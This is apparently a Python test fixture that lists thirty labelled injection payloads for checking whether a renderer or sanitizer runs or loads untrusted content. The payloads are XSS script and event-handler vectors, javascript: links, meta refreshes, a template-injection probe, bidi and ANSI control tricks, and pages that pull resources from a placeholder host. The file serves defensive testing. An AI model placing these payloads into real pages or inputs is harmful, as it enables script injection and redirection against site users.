"""Thirty texts that would like to be more than text. HIT runs a script, SITE is elsewhere."""

from __future__ import annotations

PAYLOADS = {
    "script": "<script>HIT</script>",
    "script from elsewhere": "<script src=SITE/x.js></script>",
    "script that ends an element": "</div></li></main></title></style><script>HIT</script>",
    "image that fails": "<img src=SITE/x.png onerror=HIT>",
    "markdown image": "![picture](SITE/markdown.png) [link](javascript:HIT)",
    "markdown in html": '<img alt="![a](SITE/a.png)" src="SITE/b.png">',
    "svg": "<svg xmlns=http://www.w3.org/2000/svg onload=HIT><script>HIT</script></svg>",
    "svg that is animated": "<svg><animate onbegin=HIT attributeName=x dur=1s></svg>",
    "attribute": '" autofocus onfocus=HIT tabindex=1 x="',
    "attribute in single quotes": "' onmouseover=HIT style='position:fixed;inset:0' x='",
    "link that is a script": "<a href=javascript:HIT id=link>press</a>",
    "frame": "<iframe src=SITE/frame></iframe><iframe srcdoc='<script>HIT</script>'></iframe>",
    "object and embed": "<object data=SITE/o.swf></object><embed src=SITE/e.swf>",
    "style from elsewhere": "<link rel=stylesheet href=SITE/x.css><style>@import 'SITE/y'</style>",
    "style that asks": '<div style="background:url(SITE/bg.png)">x</div>',
    "base": "<base href=SITE/><img src=relative.png>",
    "refresh": '<meta http-equiv=refresh content="0;url=SITE/refresh">',
    "refresh to a script": '<meta http-equiv=refresh content="0;url=javascript:HIT">',
    "form": "<form action=SITE/form method=post><input name=a value=b></form>",
    "prefetch": "<link rel=prefetch href=SITE/p><link rel=preload as=image href=SITE/q.png>",
    "media": "<video src=SITE/v.mp4 autoplay onerror=HIT></video><audio src=SITE/a.mp3 autoplay>",
    "template language": "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}${7*7}",
    "comment": "<!--><img src=SITE/c.png onerror=HIT>-->",
    "bidi": "\u202e\u2066gnp.SITE\u2069\u202c \u05d0\u05d1\u05d2 \u061c",
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;SITE\x07link\x1b]8;;\x07 \x9b1m \x08\x08",
    "zero width": "pass\u200bwo\u200crd\u200d\ufeff\u2060\u00ad \U000e0068\U000e0069",
    "nul": "be\x00fore<scr\x00ipt>HIT</scr\x00ipt>",
    "lone surrogates": "\ud800 x \udfff \ud83d",
    "combining marks": "a" + "\u0301\u0300\u0323\u0489" * 25_000,
    "entities and old encodings": "&lt;script&gt;HIT&lt;/script&gt; +ADw-script+AD4-HIT \x1a0000",
}


def payload(name: str, site: str) -> str:
    """One of them, with its script and its site filled in."""
    return PAYLOADS[name].replace("HIT", "window.hit=1").replace("SITE", site)
